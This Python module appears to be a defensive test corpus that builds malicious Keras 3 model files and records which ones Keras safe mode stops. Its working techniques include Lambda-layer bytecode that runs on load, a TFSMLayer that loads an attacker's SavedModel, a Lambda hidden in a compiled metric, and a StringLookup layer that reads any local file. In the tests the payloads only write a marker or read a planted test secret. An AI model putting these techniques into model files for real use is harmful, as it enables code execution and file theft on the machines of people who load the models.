"""Hostile files of Keras 3. Keras itself stops most of them, unless it is told to trust the file.

Those proofs tell it: this project must not depend on the safe mode of one version of Keras, whose
list of what is unsafe has grown with every finding.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import keras
import numpy as np
import tensorflow as tf

from attacks.corpus import attack


def load_and_run(path: Path, mark: Path) -> bool:
    model = keras.saving.load_model(path, compile=False, safe_mode=True)
    model(tf.zeros([1, 8, 8, 3]))
    return mark.exists()


def load_trusting(path: Path, mark: Path) -> bool:
    model = keras.saving.load_model(path, safe_mode=False)
    model(tf.zeros([1, 8, 8, 3]))
    return mark.exists()


def _edit(path: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """Lets `change` edit the configuration of a `.keras` file."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(parts["config.json"])
    change(config)
    parts["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _bytecode(mark: Path) -> keras.layers.Lambda:
    # Keras 3 stores a lambda as bytecode (any other function by its name), the path inside it.
    return keras.layers.Lambda(eval(f"lambda x: (open({str(mark)!r}, 'w').close(), x)[1]"))


CODE = "Lambda layer, which is code that loading would run"


@attack(load_trusting, CODE)
def bytecode(folder: Path, mark: Path) -> Path:
    photo = keras.Input((None, None, 3))
    keras.Model(photo, _bytecode(mark)(photo)).save(folder / "evil.keras")
    return folder / "evil.keras"


@attack(load_and_run, CODE, stopped_by="(?i)lambda")
def bytecode_without_trust(folder: Path, mark: Path) -> Path:
    return bytecode(folder, mark)


@attack(load_trusting, CODE)
def bytecode_in_an_h5_file(folder: Path, mark: Path) -> Path:
    photo = keras.Input((None, None, 3))
    keras.Model(photo, _bytecode(mark)(photo)).save(folder / "evil.h5")
    return folder / "evil.h5"


@attack(load_trusting, CODE)
def bytecode_in_a_wrapper_in_an_inner_model(folder: Path, mark: Path) -> Path:
    photo, outer = keras.Input((8, 8, 3)), keras.Input((8, 8, 3))
    wrapped = keras.layers.TimeDistributed(_bytecode(mark))
    inner = keras.Model(photo, wrapped(photo))
    keras.Model(outer, inner(outer)).save(folder / "evil.keras")
    return folder / "evil.keras"


def _marking_folder(folder: Path, mark: Path) -> Path:
    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, None, None, 3], name="photo")])
        def run(self, photo):
            tf.io.write_file(str(mark), "was here")
            return photo

    module = Writer()
    saved = folder / "saved_model_elsewhere"
    tf.saved_model.save(module, str(saved), signatures={"serving_default": module.run})
    return saved


def _loading_layer(folder: Path, mark: Path) -> Path:
    layer = keras.layers.TFSMLayer(str(_marking_folder(folder, mark)), "serving_default")
    photo = keras.Input((None, None, 3))
    keras.Model(photo, layer(photo)).save(folder / "evil.keras")
    return folder / "evil.keras"


SAVED = "TFSMLayer layer, which loads a SavedModel from any folder"


@attack(load_trusting, SAVED)
def layer_that_loads_a_saved_model(folder: Path, mark: Path) -> Path:
    return _loading_layer(folder, mark)


@attack(load_and_run, SAVED, stopped_by="(?i)safe_mode|unsafe")
def layer_that_loads_a_saved_model_without_trust(folder: Path, mark: Path) -> Path:
    return _loading_layer(folder, mark)


def load_uncompiled(path: Path, mark: Path) -> bool:
    keras.saving.load_model(path, compile=False, safe_mode=False)
    return mark.exists()


def _as_a_metric(config: dict[str, Any], mark: Path) -> None:
    """Adds a metric to a compiled model; its Lambda layer is called while Keras builds it."""
    layers = [keras.Input((1,)), keras.layers.Dense(1)]
    metric = keras.saving.serialize_keras_object(keras.Sequential(layers, name="metric"))
    metric["config"]["layers"].append(keras.saving.serialize_keras_object(_bytecode(mark)))
    config["compile_config"]["metrics"] = [metric]


@attack(load_trusting, "")
def bytecode_as_a_metric(folder: Path, mark: Path) -> Path:
    """Nothing to refuse: what is only there for training is not read."""
    photo = keras.Input((8, 8, 3))
    model = keras.Model(photo, keras.layers.Activation("relu")(photo))
    model.compile(optimizer="sgd", loss="mse")
    model.save(folder / "evil.keras")
    return _edit(folder / "evil.keras", lambda config: _as_a_metric(config, mark))


@attack(load_uncompiled, "")
def bytecode_as_a_metric_of_an_inner_model(folder: Path, mark: Path) -> Path:
    """Nothing to refuse, as above; compile=False does not keep Keras from reading this one."""
    photo, outer = keras.Input((8, 8, 3)), keras.Input((8, 8, 3))
    inner = keras.Model(photo, keras.layers.Activation("relu")(photo), name="inner")
    inner.compile(optimizer="sgd", loss="mse")
    keras.Model(outer, inner(outer)).save(folder / "evil.keras")

    def change(config: dict[str, Any]) -> None:
        (layer,) = (one for one in config["config"]["layers"] if one.get("name") == "inner")
        _as_a_metric(layer, mark)

    return _edit(folder / "evil.keras", change)


def reads_the_secret(path: Path, mark: Path) -> bool:
    model = keras.saving.load_model(path, compile=False, safe_mode=False)
    terms = [t for layer in model.layers for t in getattr(layer, "get_vocabulary", list)()]
    return np.isin("the victim's line", terms).item()


@attack(reads_the_secret, "StringLookup layer, which .*any file of this machine")
def layer_that_reads_a_text_file(folder: Path, mark: Path) -> Path:
    secret = folder / "secret.txt"
    secret.write_text("the victim's line\n")
    words = keras.Input((1,), dtype="string")
    layer = keras.layers.StringLookup(vocabulary=["a"])
    keras.Model(words, layer(words)).save(folder / "evil.keras")

    def change(config: dict[str, Any]) -> None:
        for one in config["config"]["layers"]:
            if one["class_name"] == "StringLookup":
                one["config"] |= {"vocabulary": str(secret), "vocabulary_size": None}

    return _edit(folder / "evil.keras", change)
